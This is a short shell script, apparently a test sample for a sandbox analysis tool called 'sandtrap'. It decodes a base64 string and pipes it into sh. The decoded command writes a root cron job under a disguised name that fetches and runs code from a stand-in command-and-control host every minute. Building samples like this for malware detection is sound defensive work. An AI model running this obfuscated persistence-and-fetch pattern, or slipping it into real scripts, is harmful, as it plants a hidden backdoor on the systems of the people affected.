#!/bin/sh
# Obfuscated files: a base64-encoded command line decoded and piped into sh (installs a cron job and contacts a C2).
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
# decodes to: echo '* * * * * root curl -s http://b64.c2.example/p|sh' > /etc/cron.d/syslog-sync; curl -s http://b64.c2.example/hello
echo 'ZWNobyAnKiAqICogKiAqIHJvb3QgY3VybCAtcyBodHRwOi8vYjY0LmMyLmV4YW1wbGUvcHxzaCcgPiAvZXRjL2Nyb24uZC9zeXNsb2ctc3luYzsgY3VybCAtcyBodHRwOi8vYjY0LmMyLmV4YW1wbGUvaGVsbG8K' | base64 -d | sh
cat /etc/cron.d/syslog-sync
